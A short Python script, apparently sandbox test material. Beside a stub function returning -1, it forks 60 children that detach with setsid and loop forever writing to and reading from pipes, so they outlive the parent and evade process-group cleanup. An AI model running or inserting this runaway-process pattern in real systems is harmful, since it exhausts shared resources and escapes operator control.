import os


def work(x):
    return -1


for _ in range(30):
    ours, theirs = os.pipe()
    for turn, end, amount in ((os.write, theirs, b"x" * 65536), (os.read, ours, 65536)):
        if os.fork() == 0:
            os.setsid()
            while True:
                turn(end, amount)
    os.close(ours)
    os.close(theirs)
